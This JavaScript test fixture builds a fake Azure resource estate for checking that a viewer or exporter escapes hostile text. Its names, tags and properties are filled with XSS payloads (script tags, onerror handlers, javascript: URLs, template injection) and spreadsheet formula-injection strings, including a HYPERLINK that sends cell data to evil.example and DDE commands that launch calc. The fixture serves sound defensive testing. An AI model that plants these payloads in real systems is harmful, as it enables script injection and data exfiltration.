// An estate whose every text is an attack on whoever shows or exports it: anyone who may create and tag resources can write these.
const subscription = 'aaaaaaaa-0000-0000-0000-000000000001', lost = 'aaaaaaaa-0000-0000-0000-000000000002';

/** In every markup that must not run. */
export const mark = 'XSSMARK';
/** The simplest of it. */
export const shown = '<img src=x onerror=alert("XSSMARK")>';
const texts = [
  shown, '"><svg onload=alert("XSSMARK")>', '\'><script>alert("XSSMARK")</script>', '<script>alert("XSSMARK")</script>', '</title><script>alert("XSSMARK")</script>', '{{constructor.constructor("alert(\'XSSMARK\')")()}}',
  'javascript:alert("XSSMARK")', '<iframe srcdoc="<script>parent.alert(\'XSSMARK\')</script>">', '\u202e<img src=x onerror=alert("XSSMARK")>', '<a href="javascript:alert(\'XSSMARK\')">x</a>', '-->\n<script>alert("XSSMARK")</script>', '`${alert("XSSMARK")}`',
];
const formulas = ['=1+1', '=HYPERLINK("http://evil.example/?"&A1,"XSSMARK")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '=cmd|\'/c calc\'!A1', '"=1+1', ';=1+1', '\n=1+1', '＝1+1'];

/** Rows as Resource Graph returns them. */
export function hostileEstate() {
  const rows = [];
  const subscriptionRow = (id, name) => rows.push({ id: `/subscriptions/${id}`, name, type: 'microsoft.resources/subscriptions', subscriptionId: id, properties: { state: 'Enabled', managementGroupAncestorsChain: [] } });
  subscriptionRow(subscription, shown);
  subscriptionRow(lost, `=1+1 ${shown}`);
  [...texts, ...formulas].forEach((text, i) => {
    const of = i % 5 === 4 ? lost : subscription;
    // A slash would end the segment of an id.
    const segment = text.replace(/[/\n\r\t]/g, '');
    const group = `rg-${segment}`, name = `${segment}${i}`;
    const base = `/subscriptions/${of}/resourceGroups/${group}/providers/Microsoft.Web`;
    const common = { location: 'westeurope', resourceGroup: group, subscriptionId: of };
    rows.push({ ...common, id: `${base}/serverfarms/plan ${segment}`, name: `plan ${segment}`, type: 'microsoft.web/serverfarms', kind: 'app', tags: null, properties: {}, sku: { name: 'P1v3', tier: 'PremiumV3', capacity: 1 } });
    rows.push({
      ...common, id: `${base}/sites/${name}`, name, type: 'microsoft.web/sites', kind: 'app',
      tags: { dataClassification: i % 3 === 0 ? text : 'confidential', owner: text, costCentre: text, environment: text, [text.slice(0, 200)]: text, mtlsExemption: text },
      properties: {
        state: i % 4 === 0 ? text : 'Running', enabled: true, sku: 'PremiumV3', serverFarmId: `${base}/serverfarms/plan ${segment}`, defaultHostName: `${segment}.azurewebsites.net`,
        clientCertEnabled: true, clientCertMode: i % 2 === 0 ? 'Optional' : 'Required', clientCertExclusionPaths: `/${text};/health`, httpsOnly: i % 2 === 0, publicNetworkAccess: i % 6 === 0 ? text : null,
      },
    });
    rows.push({ ...common, id: `${base}/sites/${name}/config/web`, name: 'web', type: 'microsoft.web/sites/config', tags: null, properties: { Http20Enabled: true, MinTlsVersion: i % 7 === 0 ? text : '1.2' } });
  });
  return rows;
}

/** A subscription of it that can be made to vanish. */
export const vanishing = lost;

/** The text with which it is retired, which goes into the audit trail. */
export const reason = `gone: ${shown} =1+1`;
